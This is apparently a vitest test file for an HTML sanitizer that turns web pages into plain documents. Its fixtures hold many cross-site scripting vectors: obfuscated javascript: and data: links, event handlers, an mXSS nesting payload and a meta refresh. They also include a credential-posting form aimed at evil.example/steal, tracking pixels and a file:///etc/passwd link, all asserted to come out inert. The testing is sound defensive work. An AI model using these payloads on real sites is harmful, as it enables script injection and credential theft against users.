import { describe, expect, it } from 'vitest';
import type { ParsedDocument } from '../../parsed-document';
import { htmlFragmentToDocument } from '../html-to-document';
import { parseHtml } from '../parse-html';

const FILLER =
  'Analysts said the quarter was stronger than expected, with margins improving in every region and the order book at a record.';

/** Every trick in one page; the article text around them must survive. */
const HOSTILE_BODY = `
<article>
<h1>Quarterly results beat expectations</h1>
<p>First paragraph survives. ${FILLER}
  <a href="javascript:alert('js')">plain js link</a>,
  <a href="java&#x09;script:alert('entity-tab')">entity tab link</a>,
  <a href="java\tscript:alert('raw-tab')">raw tab link</a>,
  <a href="java&#x0A;script:alert('newline')">newline link</a>,
  <a href="&#106;avascript:alert('decimal')">decimal entity link</a>,
  <a href="  JaVaScRiPt:alert('case')">mixed case link</a>,
  <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>,
  <a href="vbscript:msgbox('vb')">vbscript link</a>,
  <a href="/investors/report">relative link</a>,
  <a href="https://ok.example/report" onclick="alert('onclick')">good link</a>,
  <a href="mailto:ir@ok.example">mail link</a>.</p>
<img src="https://evil.example/pixel.gif" onerror="alert('onerror')">
<p style="background:url(https://evil.example/bg.png)">Second paragraph survives. ${FILLER}</p>
<iframe src="https://evil.example/frame" srcdoc="<script>alert('srcdoc')</script><p>srcdoc text</p>"></iframe>
<svg onload="alert('svg-onload')"><script>alert('svg-script')</script><a href="javascript:alert('svg-a')"><text>svg link text</text></a></svg>
<form action="https://evil.example/steal"><label>Password <input name="password" value="hunter2"></label><button>Send it</button></form>
<p>Third paragraph with <span onmouseover="alert('hover')">hover text</span> survives. ${FILLER}</p>
<object data="https://evil.example/x.swf"><param name="movie" value="x.swf">object text</object>
<embed src="https://evil.example/x.swf">
<noscript><p>noscript text</p></noscript>
<template><p>template text</p></template>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
<p>Fourth paragraph survives. ${FILLER}</p>
</article>`;

const HOSTILE_PAGE = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/track.png) }</style>
<script>alert('head-script')</script>
<title>Quarterly results beat expectations</title>
</head><body onload="alert('body-onload')">${HOSTILE_BODY}</body></html>`;

const SURVIVING = [
  'First paragraph survives.',
  'Second paragraph survives.',
  'Third paragraph with hover text survives.',
  'Fourth paragraph survives.',
  // Link text stays as text even where the link goes.
  'plain js link',
  'entity tab link',
  'raw tab link',
  'data link',
  'good link',
];
const NEVER = [
  'head-script',
  'svg-script',
  'svg link text',
  'srcdoc',
  'hunter2',
  'Send it',
  'object text',
  'noscript text',
  'template text',
  'url(',
  'evil.example',
];

function expectInert(doc: ParsedDocument, resolvedRelative: string | null): void {
  for (const text of SURVIVING) expect(doc.text).toContain(text);
  for (const text of NEVER) expect(doc.text).not.toContain(text);
  for (const link of doc.links) expect(link.href).toMatch(/^(?:https?:\/\/|mailto:)/);
  const hrefs = doc.links.map((link) => link.href);
  expect(hrefs).not.toContainEqual(expect.stringContaining('evil.example'));
  expect(hrefs).toContain('https://ok.example/report');
  expect(hrefs).toContain('mailto:ir@ok.example');
  expect(hrefs.filter((href) => href.includes('/investors/report'))).toEqual(
    resolvedRelative === null ? [] : [resolvedRelative],
  );
  expect(hrefs).toHaveLength(resolvedRelative === null ? 2 : 3);
  // The link covers exactly its own text.
  const good = doc.links.find((link) => link.href === 'https://ok.example/report')!;
  expect(doc.text.slice(good.start, good.end)).toBe('good link');
}

describe('hostile HTML', () => {
  it('comes out of parseHtml inert, with the article text intact', async () => {
    const doc = await parseHtml(HOSTILE_PAGE, { url: 'https://news.example/2026/results' });
    // The page's <base> is ignored: relative links resolve against the page's own address.
    expectInert(doc, 'https://news.example/investors/report');
    expect(doc.metadata.title).toBe('Quarterly results beat expectations');
  });

  it('comes out of htmlFragmentToDocument inert, and relative links without a base are dropped', () => {
    expectInert(htmlFragmentToDocument(HOSTILE_PAGE, {}), null);
    expectInert(htmlFragmentToDocument(HOSTILE_BODY, {}), null);
  });

  it('resolves relative links in a fragment against the given base', () => {
    const doc = htmlFragmentToDocument(HOSTILE_BODY, { baseUrl: 'https://news.example/a/b' });
    expectInert(doc, 'https://news.example/investors/report');
  });

  it('keeps only http(s) and mailto for every scheme trick, also in the block walker', () => {
    const tricks = [
      'javascript:alert(1)',
      'java\nscript:alert(1)',
      'java\u0000script:alert(1)',
      ' \u0001javascript:alert(1)',
      'jav&#x61;script:alert(1)',
      'file:///etc/passwd',
      'ftp://files.example/x',
      'blob:https://news.example/1',
      'about:blank',
      'intent://x#Intent;end',
    ];
    const html = tricks.map((href) => `<p><a href="${href}">trick</a> text</p>`).join('');
    const doc = htmlFragmentToDocument(html, { baseUrl: 'https://news.example/' });
    // The parser turns NUL into U+FFFD, making `java\u0000script:` a harmless relative path,
    // as in a browser; nothing else may survive as a link.
    expect(doc.links.map((link) => link.href)).toEqual([
      'https://news.example/java%EF%BF%BDscript:alert(1)',
    ]);
    expect(doc.text.split('\n\n')).toEqual(tricks.map(() => 'trick text'));
  });
});
